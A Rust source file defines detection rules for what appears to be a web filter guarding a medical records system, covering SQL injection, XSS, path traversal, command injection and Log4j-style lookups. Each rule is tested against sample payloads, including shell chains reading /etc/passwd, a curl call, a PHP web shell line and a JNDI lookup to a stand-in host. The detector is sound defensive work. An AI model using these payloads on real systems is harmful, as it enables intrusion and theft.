//! The rules: what fires, and beside each what must fire and what comes near and must not. A test holds all of them to
//! their examples.
//!
//! Patterns are ASCII, without regard to case, over bytes; every repetition is bounded or linear, so a value is read in
//! time that grows with its length. An id is stable: it is on records, in metrics' classes and in detection rules.

use regex::bytes::Match;

use super::sql;

/// What kind of attack a rule looks for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Class {
    /// SQL injection, operators of document databases included.
    Sql,
    /// Cross-site scripting.
    Xss,
    /// Path traversal and files of the server.
    Path,
    /// Command injection.
    Command,
    /// Lookup strings and expressions.
    Lookup,
}

impl Class {
    /// Every class.
    pub const ALL: [Self; 5] = [
        Self::Sql,
        Self::Xss,
        Self::Path,
        Self::Command,
        Self::Lookup,
    ];

    /// The word on records and in metrics; every id of the class begins with it.
    #[must_use]
    pub const fn word(self) -> &'static str {
        match self {
            Self::Sql => "sql",
            Self::Xss => "xss",
            Self::Path => "path",
            Self::Command => "command",
            Self::Lookup => "lookup",
        }
    }
}

/// One rule.
#[derive(Debug)]
pub struct Rule {
    /// Its stable id.
    pub id: &'static str,
    /// What it looks for.
    pub class: Class,
    /// What a value is that it fires at, for a person.
    pub title: &'static str,
    pub(super) pattern: &'static str,
    /// A second look at each match.
    pub(super) holds: Option<fn(&[u8], &Match<'_>) -> bool>,
    /// Whether it reads character references of HTML as they are resolved in an attribute.
    pub(super) in_attributes: bool,
    /// Values at which it must fire.
    pub fires: &'static [&'static str],
    /// Values that come near, at which no rule may fire.
    pub passes: &'static [&'static str],
}

/// Every rule.
pub const RULES: &[Rule] = &[
    Rule {
        id: "sql-union",
        class: Class::Sql,
        title: "a second query is appended with UNION",
        pattern: r"\bunion\b[\s(]+(?:(?:all|distinct)[\s(]+)?select[\s(]+(?:[\d'\x22@(*]|null\b|[\w.$]+\s*(?:[,(]|\bfrom\b|--|#))",
        holds: None,
        in_attributes: false,
        fires: &[
            "4 UNION SELECT 1,2,3",
            "4 union/**/all/**/select/**/user,pass from users",
            "') /*!50000UNION*/ SELECT null,null-- -",
        ],
        passes: &[
            "non-union select cases for surgery",
            "credit union; select a plan",
        ],
    },
    Rule {
        id: "sql-stacked",
        class: Class::Sql,
        title: "a second statement follows a semicolon",
        pattern: r";\s*(?:drop\s+(?:table|database|schema|view|index|user|procedure)\b|truncate\s+table\b|insert\s+into\s+[\w.$\[`\x22]+|update\s+[\w.$\[\]`\x22]+\s+set\b|delete\s+from\s+[\w.$\[`\x22]+|alter\s+(?:table|user|database|login)\b|create\s+(?:table|user|database|login|function|trigger)\b|grant\s+\w+\s+on\s+[\w.$*]+\s+to\b|exec(?:ute)?[\s(]+(?:xp_|sp_|master|immediate|@)|declare\s+@|shutdown\s*(?:;|--|$)|waitfor\s+(?:delay|time)\b|copy\s+[\w(].{0,80}\bprogram\b|select\s+(?:[\d'\x22@*(]|[\w.$]+\s*\(|.{1,120}\bfrom\s+[\w.$\[`\x22]+\s*(?:;|--|#|$|\bwhere\b|\blimit\b)))",
        holds: None,
        in_attributes: false,
        fires: &[
            "1; DROP TABLE patients",
            "4';update users set role='admin' where id=7--",
            "1;select pg_read_file('/etc/passwd')",
            "1;declare @x varchar(99)",
        ],
        passes: &[
            "pt c/o pain; select ESR or CRP",
            "drop table salt",
            "stable; update family",
            "closed; create a plan",
        ],
    },
    Rule {
        id: "sql-breakout",
        class: Class::Sql,
        title: "a quote ends the EMR's text and a condition follows",
        pattern: r"['\x22`][\s)]*(?:\bor\b|\band\b|\bxor\b|\|\||&&)[\s(!~+-]*(?:not\s+)?(?:(?:\d[\w.]*|'[^']{0,64}'|\x22[^\x22]{0,64}\x22|true|false|null|@@?\w+)\s*(?:=|<|>|!=|\blike\b|\brlike\b|\bregexp\b|\bin\b|\bis\b|\bbetween\b|--|#|;|/\*|(?:\bor\b|\band\b|\bxor\b|\|\||&&))|[\w.`\[\]]+\s*(?:=|<>|!=|<=>|\blike\b|\brlike\b|\bregexp\b|\bin\s*\()\s*['\x22(%\d]|[\w.]+\s+is\s+(?:not\s+)?null\b|\w+\()",
        holds: Some(sql::breaks_out),
        in_attributes: false,
        fires: &[
            "' OR '1'='1",
            "' or 1=1--",
            "x') or ('a'='a",
            "' || username like 'a%",
            "\" and sleep(5)#",
            "' or true-- -",
            "\u{ff07} or 1\u{ff1d}1 --",
        ],
        passes: &[
            "O'Brien or O'Neill",
            "says 'ok' and bp 140/90",
            "5'10\" and 180 lb",
            "'red' or 'blue'",
            "the pt's hip and knee",
        ],
    },
    Rule {
        id: "sql-condition",
        class: Class::Sql,
        title: "a number or name is followed by a condition that always or never holds",
        pattern: r"^\s*[\w.%@-]{0,64}[\s)'\x22]*(?:\s(?:or|and|xor)\s|\|\||&&)[\s(]*(?:not\s+)?(?:\d+|'[^']{0,64}'|\x22[^\x22]{0,64}\x22)\s*(?:=|<>|!=|<|>|\blike\b)\s*(?:\d+|'[^']{0,64}'?|\x22[^\x22]{0,64}\x22?)\s*(?:$|--|#|;|\)|/\*|['\x22]|\b(?:or|and|xor|order|union|limit|group|having)\b)",
        holds: None,
        in_attributes: false,
        fires: &["1 or 1=1", "7) and 1=2-- -", "4 OR 'a'='a'", "1 && 2>1"],
        passes: &["and 1=1/2 tab", "1 or 2 tabs", "2 and 3 > 1 hourly", "a=b"],
    },
    Rule {
        id: "sql-comment",
        class: Class::Sql,
        title: "a quote ends the EMR's text and the rest is commented out",
        pattern: r"['\x22`][\s)]*(?:--(?:$|[\s+-])|#\s*$|;?\s*/\*)|^\s*\d+[\s)]*(?:--[\s-]{0,3}$|;\s*--)",
        holds: Some(sql::breaks_out),
        in_attributes: false,
        fires: &["admin'--", "admin' #", "x')-- -", "4--", "1'/*"],
        passes: &[
            "the so-called \"cold\" -- gone",
            "10 -- 20 mg",
            "bed #4",
            "'ok' -- seen",
        ],
    },
    Rule {
        id: "sql-subquery",
        class: Class::Sql,
        title: "a query stands in brackets",
        pattern: r"\(\s*select\b\s*(?:[\d'\x22@*(]|[\w.$]+\s*\(|(?:distinct\s+)?[\w.$`]+(?:\s*,\s*[\w.$`]+)*\s+from\s+[\w.$`]+\s*(?:\)|\bwhere\b|\blimit\b|\border\b))",
        holds: None,
        in_attributes: false,
        fires: &[
            "1 and (select count(*) from users)>0",
            "(select password from users limit 1)",
            "(SELECT @@version)",
        ],
        passes: &[
            "(select one)",
            "(select all that apply from the list)",
            "(selected)",
        ],
    },
    Rule {
        id: "sql-query",
        class: Class::Sql,
        title: "a whole query",
        pattern: r"\bselect\s+(?:top\s+\d+\s+|distinct\s+|all\s+)?(?:\*|[\w.$]*\([^)]{0,80}\)|@@\w+)(?:\s*,\s*[\w.$*@()]+)*\s+from\s+[\w.$\[`\x22]",
        holds: None,
        in_attributes: false,
        fires: &["select * from users", "SELECT count(*) FROM patient_data"],
        passes: &["select a drug from the formulary", "select (with care) one"],
    },
    Rule {
        id: "sql-delay",
        class: Class::Sql,
        title: "the database is made to wait",
        pattern: r"\bbenchmark\s*\(\s*\d+\s*,|\bpg_sleep\s*\(|\bdbms_(?:pipe\.receive_message|lock\.sleep|session\.sleep)\b|\bwaitfor\s+(?:delay|time)\s*['\x22(@]|(?:^|[\s'\x22(,;=+|&!*/-])sleep\(\s*[\d.]+\s*\)",
        holds: None,
        in_attributes: false,
        fires: &[
            "1 and sleep(5)",
            "1;waitfor delay '0:0:5'",
            "pg_sleep(10)",
            "benchmark(5000000,md5(1))",
        ],
        passes: &[
            "sleep (8 hrs)",
            "sleep 8 h",
            "wait for delay of labour",
            "no sleep(less) nights",
        ],
    },
    Rule {
        id: "sql-inside",
        class: Class::Sql,
        title: "names that only the inside of a database has",
        pattern: r"\b(?:extractvalue|updatexml|load_file|xp_cmdshell|sp_executesql|sp_oacreate|lo_import|lo_export|pg_read_file|group_concat|randomblob)\s*\(|(?:[\s;]|\.\.)xp_(?:cmdshell|dirtree|regread)\b|\butl_(?:http|inaddr|file)\s*\.\w+\s*\(|\b(?:from|join)[\s(`\x22\[]+(?:information_schema\s*\.|sqlite_master\b|sqlite_schema\b|pg_catalog\b|pg_shadow\b|sysobjects\b|syscolumns\b|mysql\.user\b)|\binto\s+(?:out|dump)file\b|\b(?:char|chr)\(\s*\d+\s*(?:,\s*\d+\s*)+\)|@@(?:version|datadir|hostname|basedir)\b",
        holds: None,
        in_attributes: false,
        fires: &[
            "extractvalue(1,concat(0x7e,version()))",
            "x from information_schema.tables",
            "char(97,98,99)",
            "1 into outfile '/tmp/x'",
            "@@version",
        ],
        passes: &[
            "extract value (serum)",
            "char (2, 3 cm)",
            "group concat",
            "into out-patient file",
        ],
    },
    Rule {
        id: "sql-clause",
        class: Class::Sql,
        title: "the number of columns is felt for",
        pattern: r"(?:^\s*-?\d+[\s)]*|['\x22`][\s)]*)(?:(?:order|group)\s+by\s+\d+\s*(?:,\s*\d+\s*)*(?:$|--|#|;|/\*)|having\s+\d+\s*=\s*\d+|procedure\s+analyse\s*\()",
        holds: None,
        in_attributes: false,
        fires: &["1 order by 5--", "' group by 1,2,3#", "1) having 1=1"],
        passes: &["labs order by 5", "order by 5pm", "2 order by phone"],
    },
    Rule {
        id: "sql-operator",
        class: Class::Sql,
        title: "an operator of a document database stands for a value",
        pattern: r"(?:^|[\[\x22'{]\s*)\$(?:ne|gt|gte|lt|lte|eq|regex|where|in|nin|exists|or|and|not|nor|expr|function|elemmatch)(?:$|['\x22\]]|\s*:)",
        holds: None,
        in_attributes: false,
        fires: &["user[$ne]", "$where", "{\"$gt\": \"\"}"],
        passes: &["$5 in cash", "cost $in total", "a$ne"],
    },
    Rule {
        id: "xss-tag",
        class: Class::Xss,
        title: "an element that runs or loads something",
        pattern: r"</?(?:script|iframe|object|embed|applet|svg|math|frameset|frame|template|noscript|xss|isindex|bgsound|foreignobject|animate)(?:[\s/>\x0c]|$)|<(?:base|link)\s+(?:href|rel|target)|<meta\s+(?:http-equiv|content|charset|name)",
        holds: None,
        in_attributes: false,
        fires: &[
            "<script>alert(1)</script>",
            "<ScRiPt src=//x.example>",
            "<svg/onload=x>",
            "<iframe src=x>",
            "<base href=//x>",
            "%3Cscript%3E",
        ],
        passes: &[
            "<3 mg",
            "BP <90/60",
            "<b>bold</b>",
            "<div xmlns=\"http://www.w3.org/1999/xhtml\">ok</div>",
            "bp <base line",
        ],
    },
    Rule {
        id: "xss-handler",
        class: Class::Xss,
        title: "an event handler in an element or behind a quote",
        pattern: r"<[a-z/!?][^>]{0,512}[\s/\x22'\x0c]on(?:abort|animation\w{1,12}|auxclick|before\w{1,12}|begin|blur|bounce|cancel|canplay\w{0,7}|change|click|close|contextmenu|copy|cut|dblclick|drag\w{0,6}|drop|end|ended|error|finish|focus\w{0,3}|hashchange|input|invalid|key(?:down|press|up)|load\w{0,9}|message|mouse\w{2,6}|page(?:hide|show)|paste|pointer\w{2,12}|popstate|repeat|reset|resize|scroll\w{0,3}|search|select\w{0,6}|show|start|submit|toggle|touch\w{3,6}|transition\w{3,6}|unload|wheel)\s*=|[\x22'`][\s/]*on(?:abort|animation\w{1,12}|auxclick|before\w{1,12}|begin|blur|bounce|cancel|canplay\w{0,7}|change|click|close|contextmenu|copy|cut|dblclick|drag\w{0,6}|drop|end|ended|error|finish|focus\w{0,3}|hashchange|input|invalid|key(?:down|press|up)|load\w{0,9}|message|mouse\w{2,6}|page(?:hide|show)|paste|pointer\w{2,12}|popstate|repeat|reset|resize|scroll\w{0,3}|search|select\w{0,6}|show|start|submit|toggle|touch\w{3,6}|transition\w{3,6}|unload|wheel)\s*=\s*\S",
        holds: None,
        in_attributes: false,
        fires: &[
            "<img src=x onerror=alert(1)>",
            "\" onfocus=alert(1) autofocus x=\"",
            "<p/onclick=a()>",
            "<a href='x'onmouseover=y>",
        ],
        passes: &[
            "<img src=\"x.png\" alt=\"left on load\">",
            "'sudden' onset = 3 days",
            "\"on arrival\" = 9",
            "<p>on load = 4 kg</p>",
        ],
    },
    Rule {
        id: "xss-scheme",
        class: Class::Xss,
        title: "an address that is a program",
        pattern: r"(?:^|[^\w-])j[\x00-\x20]*a[\x00-\x20]*v[\x00-\x20]*a[\x00-\x20]*s[\x00-\x20]*c[\x00-\x20]*r[\x00-\x20]*i[\x00-\x20]*p[\x00-\x20]*t[\x00-\x20]*:[\x00-\x20]*[^\s]|\b(?:vb|live)script\s*:\s*\S|\bdata:\s*(?:text/html|image/svg\+xml|application/xhtml)",
        holds: None,
        in_attributes: true,
        fires: &[
            "javascript:alert(1)",
            "java\tscript:alert(1)",
            "&#106;avascript&colon;alert(1)",
            "data:text/html;base64,PHN2Zz4=",
        ],
        passes: &[
            "https://hospital.example/javascript",
            "javascript",
            "data: text of the report",
        ],
    },
    Rule {
        id: "xss-script",
        class: Class::Xss,
        title: "calls that only scripts in a page make",
        pattern: r"(?:^|[^\w.])(?:document\.(?:cookie|write(?:ln)?|domain|location)|window\.(?:location|name|open)|(?:local|session)storage\.|string\.fromcharcode|xmlhttprequest\b)|['\x22`;=+*/{>-](?:alert|prompt|confirm|eval|fetch|settimeout)\(\s*[\w'\x22`/.)]|['\x22`;=+*/{>-](?:alert|prompt|confirm)`|(?:\\x3c|\\u003c)\s*/?(?:script|img|svg|iframe)|\{\{.{0,80}constructor",
        holds: None,
        in_attributes: false,
        fires: &[
            "';alert(1)//",
            "x=document.cookie",
            "\"-prompt`1`-\"",
            "\\u003cscript\\u003e",
            "{{constructor.constructor('x')()}}",
        ],
        passes: &[
            "Pt alert (A&Ox3)",
            "see document. Location: left",
            "alert, oriented",
            "please confirm (by phone)",
        ],
    },
    Rule {
        id: "path-parent",
        class: Class::Path,
        title: "a way to a directory above",
        pattern: r"(?:^|[/\\=:])\.\.;?[/\\]+[a-z_.%]|(?:^|[/\\=:\s'\x22])\.\.;?[/\\]+\.\.|[/\\]\.\.$|\.{4,}[/\\]{2}|(?:%(?:25){0,4}2e|%c0%ae|%e0%80%ae|\.){2}(?:%(?:25){0,4}(?:2f|5c)|%c0%af|%c1%9c)",
        holds: None,
        in_attributes: false,
        fires: &[
            "../../etc/hosts",
            "..\\..\\win.ini",
            "a/../../b",
            "..%252f..%252fx",
            "....//....//x",
            "..;/admin",
            "%c0%ae%c0%ae%c0%af",
            "reports/..",
        ],
        passes: &[
            "../7 (days)",
            "1/52",
            "../52",
            "see above...",
            "and/or ...",
            "10.../day",
        ],
    },
    Rule {
        id: "path-file",
        class: Class::Path,
        title: "a file of the server",
        pattern: r"(?:^|[\s'\x22=:/\\,(])(?:etc[/\\]+(?:passwd|shadow|group|hosts|sudoers)|proc[/\\]+self\b|windows[/\\]+(?:win\.ini|system32)|web-inf[/\\]|meta-inf[/\\]|\.ssh[/\\]|\.git[/\\](?:config|head))|[/\\](?:boot\.ini|\.htaccess|\.htpasswd|wp-config\.php|\.env)$",
        holds: None,
        in_attributes: false,
        fires: &[
            "/etc/passwd",
            "file=/proc/self/environ",
            "C:\\Windows\\win.ini",
            "WEB-INF/web.xml",
            "/.git/config",
        ],
        passes: &["etc. passed", "passwd", "windows of care", "e.g. .envelope"],
    },
    Rule {
        id: "path-scheme",
        class: Class::Path,
        title: "an address that reads files of the server or speaks to others from it",
        pattern: r"\b(?:php|phar|expect|gopher|dict|netdoc|zip|glob|ssh2|jar)://|\bfile:/{2,3}|\bjar:(?:https?|file):",
        holds: None,
        in_attributes: false,
        fires: &[
            "php://filter/convert.base64-encode/resource=index.php",
            "file:///c:/x",
            "gopher://127.0.0.1:6379/_",
        ],
        passes: &["https://hospital.example/a?b=c", "file: left", "zip: 10115"],
    },
    Rule {
        id: "path-nul",
        class: Class::Path,
        title: "a NUL that ends the name early",
        pattern: r"\x00|%00",
        holds: None,
        in_attributes: false,
        fires: &["report.pdf\0.png", "x%00"],
        passes: &["100%", "00", "%0"],
    },
    Rule {
        id: "command-substitution",
        class: Class::Command,
        title: "a command inside a text",
        pattern: r"\$\(\s*[a-z/{.<]|`\s*(?:id|whoami|uname|hostname|cat|ls|wget|curl|nslookup|ping|sleep|sh|bash|nc|echo|/[a-z]+/)[^`]{0,200}`|<\(\s*(?:cat|curl|wget)\b",
        holds: None,
        in_attributes: false,
        fires: &["$(id)", "x`whoami`", "$(/bin/cat x)"],
        passes: &["$(5)", "cost: $ (usd)", "`quoted` id"],
    },
    Rule {
        id: "command-chain",
        class: Class::Command,
        title: "a command behind the end of another",
        pattern: r"(?:^|[;|&\n])\s*(?:/(?:usr/)?(?:local/)?s?bin/\w+|(?:wget|curl|nslookup|ncat|powershell(?:\.exe)?|certutil|bash|zsh|whoami|uname|ifconfig|ipconfig|netstat|tasklist|systeminfo|chmod|chown|busybox|mkfifo|tftp|cmd\.exe)(?:\s|$|[;|&])|(?:cat|ls|rm|sh|nc|echo|ping|ps|cp|mv|dd|kill|env|find|python[23]?|perl|ruby|php|type|dir|more|tail|head|net)\s+(?:-[a-z]|/[a-z]|\$|\.{1,2}/|\d{1,3}(?:\.\d{1,3}){3}|\x22/|'/)|sleep\s+\d+\s*(?:$|[;|&#]))|[;|&](?:id|ls|dir)\s*(?:$|[;|&#])",
        holds: None,
        in_attributes: false,
        fires: &[
            "; cat /etc/passwd",
            "x|whoami",
            "127.0.0.1 && ping -c 10 10.0.0.1",
            "a\n/bin/sh -i",
            "x;id",
            "| sleep 10",
            "&& curl http://x.example",
        ],
        passes: &[
            "pain; cat allergy",
            "dog & cat allergy",
            "fever | rash",
            "derm; ID consult",
            "ok; sleep 8 h",
            "https://x.example/y?a=1&curl=2",
            "PMH; SH: smoker",
            "2L; NC",
            "more & more tired",
        ],
    },
    Rule {
        id: "command-shell",
        class: Class::Command,
        title: "a shell or what only a shell understands",
        pattern: r"/bin/(?:ba|z|da|k|c)?sh\b|\bcmd(?:\.exe)?\s*/[ck]\b|\$\{?IFS\b|/dev/(?:tcp|udp)/|\bpowershell(?:\.exe)?\s+-|<\?(?:php\b|=)|<%[=@]",
        holds: None,
        in_attributes: false,
        fires: &[
            "/bin/bash -i",
            "cmd.exe /c dir",
            "cat${IFS}x",
            "<?php system($_GET[0]);",
            "<%= 7*7 %>",
        ],
        passes: &["bin/shelf", "sat <% predicted", "cmd / c", "FEV1 <%pred"],
    },
    Rule {
        id: "lookup-name",
        class: Class::Lookup,
        title: "a lookup that a logging library or template would resolve",
        pattern: r"\$\{\s*(?:jndi|env|sys|java|main|ctx|map|sd|lower|upper|date|bundle|marker|event|k8s|docker|log4j|web|spring|script|dns|url|file|const|resourcebundle|xml|base64(?:en|de)coder|urlencoder|properties|localhost)\s*:",
        holds: None,
        in_attributes: false,
        fires: &[
            "${jndi:ldap://x.example/a}",
            "${env:AWS_SECRET}",
            "%24%7Bjndi:rmi://x%7D",
            "${ lower:x}",
        ],
        passes: &["${name}", "jndi:ldap", "$ {env}", "{date: today}"],
    },
    Rule {
        id: "lookup-nested",
        class: Class::Lookup,
        title: "a lookup inside a lookup, or with a default, as used to hide one",
        pattern: r"\$\{[^}]{0,64}\$\{|\$\{[^}]{0,64}:-",
        holds: None,
        in_attributes: false,
        fires: &[
            "${${lower:j}ndi:ldap://x}",
            "${${::-j}${::-n}di:x}",
            "${x:-y}",
        ],
        passes: &["${a} ${b}", "$5:-", "{x:-y}"],
    },
    Rule {
        id: "lookup-expression",
        class: Class::Lookup,
        title: "an expression that a template or framework would evaluate",
        pattern: r"[$#%*@]\{\s*(?:t\s*\(|new\s+[\w.]+\(|\(?\s*#\w|@[\w.]+@|pagecontext|request\.|param\.|class\.|\d+\s*[*+-]\s*\d+\s*\}|[^}]{0,200}(?:getruntime|processbuilder|getclass\b|\.exec\())|\{\{\s*(?:\d+\s*[*+-]\s*\d+|[^}]{0,80}(?:__class__|__globals__|self\._|cycler\.|config\.))",
        holds: None,
        in_attributes: false,
        fires: &[
            "${7*7}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "%{(#a=@x@y)}",
            "{{7*7}}",
            "{{''.__class__}}",
        ],
        passes: &["{{name}}", "#{4}", "%{50}", "${total}"],
    },
];
